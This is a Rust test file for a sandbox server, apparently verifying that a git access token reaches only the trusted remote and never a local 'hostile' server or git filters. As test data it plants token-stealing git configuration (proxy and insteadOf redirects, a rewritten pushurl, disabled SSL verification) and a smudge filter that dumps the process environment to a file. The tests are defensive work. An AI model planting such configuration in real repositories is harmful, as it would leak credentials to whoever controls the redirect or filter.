//! Where a git token goes: only to the sandbox's recorded `git_repo` or to a URL given with the
//! call. A sandbox's own configuration (its `.git/config`, its home directory's `.gitconfig`)
//! is written by whatever ran there before and must not be able to send the token anywhere else
//! or show it to a program.
//!
//! Two real smart-HTTP servers (`git http-backend` behind a small Python server) record the
//! `Authorization` header of every request: the legitimate remote, which requires the token,
//! and a hostile one, which must never see it.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use base64::Engine;
use serde_json::{Value, json};

use crate::git::{host_git, seed_bare_repo};
use crate::helpers::{Db, TestApp, spawn_with, test_config};
use daytona_mcp::drivers::local::IsolationMode;

/// A smart-HTTP git server on 127.0.0.1 that logs every request's `Authorization` header (one
/// line per request, `-` when there was none) and serves `root` through `git http-backend`,
/// push included, to requests carrying one of `tokens` (any request when `tokens` is empty is
/// refused: the hostile server only listens).
struct GitHttpServer {
    child: Child,
    port: u16,
    log: PathBuf,
    _dir: tempfile::TempDir,
}

const SERVER: &str = r#"
import base64, http.server, os, subprocess, sys
root, log, tokens = sys.argv[1], sys.argv[2], sys.argv[3:]
allowed = {'Basic ' + base64.b64encode(('x-access-token:' + t).encode()).decode() for t in tokens}

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def body(self):
        if self.headers.get('Transfer-Encoding', '').lower() == 'chunked':
            data = b''
            while True:
                size = int(self.rfile.readline().strip().split(b';')[0], 16)
                if size == 0:
                    self.rfile.readline()
                    return data
                data += self.rfile.read(size)
                self.rfile.readline()
        return self.rfile.read(int(self.headers.get('Content-Length') or 0))

    def answer(self, status, headers, payload):
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header('Content-Length', str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def serve(self):
        auth = self.headers.get('Authorization')
        with open(log, 'a') as f:
            f.write((auth or '-') + ' ' + self.command + ' ' + self.path + '\n')
        body = self.body()
        if auth not in allowed:
            return self.answer(401, [('WWW-Authenticate', 'Basic realm="git"')], b'')
        path, _, query = self.path.partition('?')
        env = {
            'PATH': os.environ['PATH'], 'GIT_PROJECT_ROOT': root, 'GIT_HTTP_EXPORT_ALL': '1',
            'GIT_CONFIG_NOSYSTEM': '1', 'HOME': root, 'REMOTE_USER': 'tester',
            'REMOTE_ADDR': '127.0.0.1', 'REQUEST_METHOD': self.command, 'PATH_INFO': path,
            'QUERY_STRING': query, 'CONTENT_TYPE': self.headers.get('Content-Type', ''),
            'CONTENT_LENGTH': str(len(body)),
        }
        if self.headers.get('Content-Encoding'):
            env['HTTP_CONTENT_ENCODING'] = self.headers['Content-Encoding']
        if self.headers.get('Git-Protocol'):
            env['GIT_PROTOCOL'] = self.headers['Git-Protocol']
        out = subprocess.run(['git', 'http-backend'], input=body, env=env,
                             stdout=subprocess.PIPE).stdout
        sep = b'\r\n\r\n' if b'\r\n\r\n' in out else b'\n\n'
        head, _, payload = out.partition(sep)
        status, headers = 200, []
        for line in head.decode().splitlines():
            k, _, v = line.partition(':')
            if k.lower() == 'status':
                status = int(v.split()[0])
            elif k:
                headers.append((k, v.strip()))
        self.answer(status, headers, payload)

    do_GET = do_POST = serve

    def log_message(self, *a):
        pass

server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
"#;

impl GitHttpServer {
    fn start(root: &Path, tokens: &[&str]) -> GitHttpServer {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("requests.log");
        std::fs::write(&log, "").unwrap();
        let mut child = Command::new("python3")
            .arg("-c")
            .arg(SERVER)
            .arg(root)
            .arg(&log)
            .args(tokens)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufRead::read_line(
            &mut std::io::BufReader::new(child.stdout.as_mut().unwrap()),
            &mut line,
        )
        .unwrap();
        GitHttpServer {
            port: line.trim().parse().unwrap(),
            child,
            log,
            _dir: dir,
        }
    }

    fn base(&self) -> String {
        format!("http://127.0.0.1:{}/", self.port)
    }

    /// Every request line logged so far.
    fn requests(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap()
    }
}

impl Drop for GitHttpServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The forms a token travels in: itself and its Basic credential.
fn token_forms(token: &str) -> [String; 2] {
    [
        token.to_string(),
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{token}")),
    ]
}

/// Fails the test if `text` holds the token in any form.
fn assert_no_token(text: &str, token: &str, what: &str) {
    for form in token_forms(token) {
        assert!(!text.contains(&form), "{what} saw the token:\n{text}");
    }
}

/// A bare repository `repo.git` under `root`, seeded, that accepts pushes over HTTP.
fn served_repo(root: &Path) -> PathBuf {
    let bare = root.join("repo.git");
    seed_bare_repo(&bare);
    host_git(&bare, &["config", "http.receivepack", "true"]);
    bare
}

/// A commit on the bare repository's `main`, made on the host, adding `name` with `content`.
fn host_commit(bare: &Path, name: &str, content: &str) {
    let work = tempfile::tempdir().unwrap();
    host_git(
        work.path(),
        &["clone", "--quiet", bare.to_str().unwrap(), "."],
    );
    std::fs::write(work.path().join(name), content).unwrap();
    host_git(work.path(), &["add", "--", name]);
    host_git(
        work.path(),
        &["commit", "--quiet", "-m", &format!("add {name}")],
    );
    host_git(work.path(), &["push", "--quiet", "origin", "HEAD:main"]);
}

/// A server allowing sandbox network (on `isolation`), its sandbox `name` cloned from `url`
/// with `token`.
async fn app_with_cloned_sandbox(
    db: Db,
    isolation: IsolationMode,
    name: &str,
    url: &str,
    token: &str,
) -> Option<TestApp> {
    let (mut config, dir) = test_config(db).await?;
    config.sandbox.allow_network = true;
    config.local.isolation = isolation;
    let app = spawn_with(config, dir).await;
    let (status, created) = app
        .call(
            "/create_sandbox",
            json!({"name": name, "network": true, "git_repo": url, "git_token": token}),
        )
        .await;
    assert_eq!(status, 200, "{created}");
    Some(app)
}

/// Runs `git config <args>` in the sandbox, with `$K` and `$V` standing for `key` and `value`
/// (passed as variables, so no quoting is involved).
async fn git_config(app: &TestApp, sandbox: &str, args: &[&str], key: &str, value: &str) {
    let command = format!(
        "git config {}",
        args.iter()
            .map(|a| format!("\"{a}\""))
            .collect::<Vec<_>>()
            .join(" ")
    );
    let (status, out) = app
        .call(
            "/execute_shell",
            json!({"sandbox_id": sandbox, "command": command, "env": {"K": key, "V": value}}),
        )
        .await;
    assert_eq!(status, 200, "{out}");
    assert_eq!(out["exit_code"], 0, "{command}: {out}");
}

/// Whether a `git_operation` answer is a refusal or a failure (anything but success).
fn did_not_succeed(status: u16, body: &Value) -> bool {
    status != 200 || body["success"] != true
}

async fn a_token_reaches_only_the_trusted_remote(db: Db) {
    token_reaches_only_the_trusted_remote(db, IsolationMode::Bwrap).await;
}

async fn a_token_reaches_only_the_trusted_remote_under_landlock(db: Db) {
    token_reaches_only_the_trusted_remote(db, IsolationMode::Landlock).await;
}

async fn token_reaches_only_the_trusted_remote(db: Db, isolation: IsolationMode) {
    let served = tempfile::tempdir().unwrap();
    let bare = served_repo(served.path());
    let token = format!("tok{}", uuid::Uuid::new_v4().simple());
    let legit = GitHttpServer::start(served.path(), &[&token]);
    let evil_root = tempfile::tempdir().unwrap();
    let evil = GitHttpServer::start(evil_root.path(), &[]);
    let url = format!("{}repo.git", legit.base());
    let Some(app) = app_with_cloned_sandbox(db, isolation, "trusted", &url, &token).await else {
        return;
    };
    let author = json!({"author_name": "Tester", "author_email": "t@example.com"});

    // The token works with the trusted remote: push by name, push a new branch, pull.
    app.file_ok("trusted", "write", "one.txt", json!({"content": "1\n"}))
        .await;
    app.git_ok("trusted", "add", json!({})).await;
    let mut commit = author.clone();
    commit["commit_message"] = json!("add one");
    app.git_ok("trusted", "commit", commit.clone()).await;
    let pushed = app.git_ok("trusted", "push", json!({})).await;
    assert!(
        pushed["output"].as_str().unwrap().contains("main -> main"),
        "{pushed}"
    );
    assert_eq!(
        host_git(&bare, &["log", "-1", "--format=%s", "main"]).trim(),
        "add one"
    );
    app.git_ok(
        "trusted",
        "checkout",
        json!({"branch": "feature", "create": true}),
    )
    .await;
    app.git_ok(
        "trusted",
        "push",
        json!({"repository_url": "origin", "branch": "feature"}),
    )
    .await;
    let tracking = app
        .shell(
            "trusted",
            "git rev-parse --abbrev-ref 'feature@{upstream}' && git rev-parse origin/feature",
        )
        .await;
    assert_eq!(tracking["exit_code"], 0, "{tracking}");
    assert!(
        tracking["stdout"]
            .as_str()
            .unwrap()
            .starts_with("origin/feature\n"),
        "{tracking}"
    );
    app.git_ok("trusted", "checkout", json!({"branch": "main"}))
        .await;
    host_commit(&bare, "two.txt", "2\n");
    let pulled = app.git_ok("trusted", "pull", json!({})).await;
    assert_eq!(pulled["exit_code"], 0, "{pulled}");
    let two = app.file_ok("trusted", "read", "two.txt", json!({})).await;
    assert_eq!(two["content"], "2\n");
    assert!(legit.requests().contains(&token_forms(&token)[1]));
    assert_no_token(&pushed.to_string(), &token, "the push's answer");
    assert_no_token(&pulled.to_string(), &token, "the pull's answer");

    // The sandbox points origin elsewhere: neither push nor pull by name sends the token there.
    let evil_url = format!("{}x.git", evil.base());
    app.shell(
        "trusted",
        &format!("git remote set-url origin '{evil_url}'"),
    )
    .await;
    for (operation, fields) in [
        ("push", json!({})),
        ("pull", json!({})),
        (
            "push",
            json!({"repository_url": "origin", "branch": "main"}),
        ),
        (
            "pull",
            json!({"repository_url": "origin", "branch": "main"}),
        ),
    ] {
        let (status, body) = app.git("trusted", operation, fields.clone()).await;
        assert_no_token(&evil.requests(), &token, "the hostile server");
        assert!(
            did_not_succeed(status, &body),
            "{operation} {fields}: {body}"
        );
        assert!(
            body.to_string().contains("git_repo"),
            "{operation}: the refusal says why: {body}"
        );
    }
    app.shell("trusted", &format!("git remote set-url origin '{url}'"))
        .await;

    // Configuration planted in .git/config that would send the request elsewhere is refused,
    // naming the key; none of it ever sees the token.
    app.file_ok(
        "trusted",
        "write",
        "evil.gitconfig",
        json!({"content": format!("[http]\n\tproxy = {}\n", evil.base())}),
    )
    .await;
    let planted: Vec<(String, String)> = vec![
        ("http.proxy".into(), evil.base()),
        (format!("url.{}.insteadOf", evil.base()), legit.base()),
        ("include.path".into(), "/workspace/evil.gitconfig".into()),
        (format!("http.{}.proxy", legit.base()), evil.base()),
        ("remote.origin.pushurl".into(), evil_url.clone()),
        ("http.sslVerify".into(), "false".into()),
        (
            "filter.spy.smudge".into(),
            "sh -c 'env >> /workspace/spy.env; cat'".into(),
        ),
    ];
    for (key, value) in planted {
        git_config(&app, "trusted", &["$K", "$V"], &key, &value).await;
        for operation in ["push", "pull"] {
            let (status, body) = app.git("trusted", operation, json!({})).await;
            assert_no_token(&evil.requests(), &token, "the hostile server");
            assert!(did_not_succeed(status, &body), "{key}: {body}");
            let message = body["error"]["message"].as_str().unwrap_or_default();
            assert!(
                message.to_lowercase().contains(&key.to_lowercase()),
                "{key}: the refusal names the key: {body}"
            );
        }
        git_config(&app, "trusted", &["--unset-all", "$K"], &key, &value).await;
    }
    let spy = app.shell("trusted", "cat spy.env 2>/dev/null; true").await;
    assert_no_token(spy["stdout"].as_str().unwrap(), &token, "a filter");

    // A local remote needs no token: pushing there is not refused, whatever the configuration.
    let local = app
        .shell(
            "trusted",
            "git init --quiet --bare local.git && git remote add local \"$PWD/local.git\" && \
             git config core.autocrlf false",
        )
        .await;
    assert_eq!(local["exit_code"], 0, "{local}");
    app.git_ok("trusted", "push", json!({"repository_url": "local"}))
        .await;
    app.shell(
        "trusted",
        "git config --unset core.autocrlf && git remote remove local",
    )
    .await;

    // With the configuration clean again, the token works as before.
    host_commit(&bare, "three.txt", "3\n");
    app.git_ok("trusted", "pull", json!({})).await;
    let three = app.file_ok("trusted", "read", "three.txt", json!({})).await;
    assert_eq!(three["content"], "3\n");
    assert_no_token(&evil.requests(), &token, "the hostile server");
}

async fn filters_and_checkouts_run_without_the_token(db: Db) {
    filters_run_without_the_token(db, IsolationMode::Bwrap).await;
}

async fn filters_and_checkouts_run_without_the_token_under_landlock(db: Db) {
    filters_run_without_the_token(db, IsolationMode::Landlock).await;
}

async fn filters_run_without_the_token(db: Db, isolation: IsolationMode) {
    let served = tempfile::tempdir().unwrap();
    let bare = served_repo(served.path());
    // Every text file of the repository goes through the `spy` filter, if one is configured.
    {
        let work = tempfile::tempdir().unwrap();
        host_git(
            work.path(),
            &["clone", "--quiet", bare.to_str().unwrap(), "."],
        );
        std::fs::write(work.path().join(".gitattributes"), "*.txt filter=spy\n").unwrap();
        std::fs::write(work.path().join("a.txt"), "a\n").unwrap();
        host_git(work.path(), &["add", ".gitattributes", "a.txt"]);
        host_git(work.path(), &["commit", "--quiet", "-m", "filtered"]);
        host_git(work.path(), &["push", "--quiet", "origin", "HEAD:main"]);
    }
    let token = format!("tok{}", uuid::Uuid::new_v4().simple());
    let legit = GitHttpServer::start(served.path(), &[&token]);
    let url = format!("{}repo.git", legit.base());
    let Some(app) = app_with_cloned_sandbox(db, isolation, "filtered", &url, &token).await else {
        return;
    };
    // The sandbox's home directory configures the filter (and tracing): it records the
    // environment of every git process that runs it.
    app.file_ok(
        "filtered",
        "write",
        ".gitconfig",
        json!({"content": "[filter \"spy\"]\n\tsmudge = \"env >> \\\"$HOME/spy.env\\\"; cat\"\n\
                           \tclean = cat\n"}),
    )
    .await;
    app.shell("filtered", "rm -f spy.env").await;

    // A clone with the call's token, and a pull with the sandbox's: both check files out.
    let cloned = app
        .git_ok(
            "filtered",
            "clone",
            json!({"repository_url": url, "directory": "copy", "token": token}),
        )
        .await;
    assert_no_token(&cloned.to_string(), &token, "the clone's answer");
    let copy = app
        .file_ok("filtered", "read", "copy/a.txt", json!({}))
        .await;
    assert_eq!(copy["content"], "a\n");
    host_commit(&bare, "b.txt", "b\n");
    app.git_ok("filtered", "pull", json!({})).await;
    let b = app.file_ok("filtered", "read", "b.txt", json!({})).await;
    assert_eq!(b["content"], "b\n");

    // The filter ran (the checkouts used it) and never saw the token.
    let spy = app.shell("filtered", "cat spy.env").await;
    let seen = spy["stdout"].as_str().unwrap();
    assert!(seen.contains("PATH="), "the filter ran: {spy}");
    assert_no_token(seen, &token, "a filter");
    assert!(!seen.contains("extraHeader"), "{seen}");
}

crate::on_both_databases!(
    a_token_reaches_only_the_trusted_remote,
    a_token_reaches_only_the_trusted_remote_under_landlock,
    filters_and_checkouts_run_without_the_token,
    filters_and_checkouts_run_without_the_token_under_landlock
);
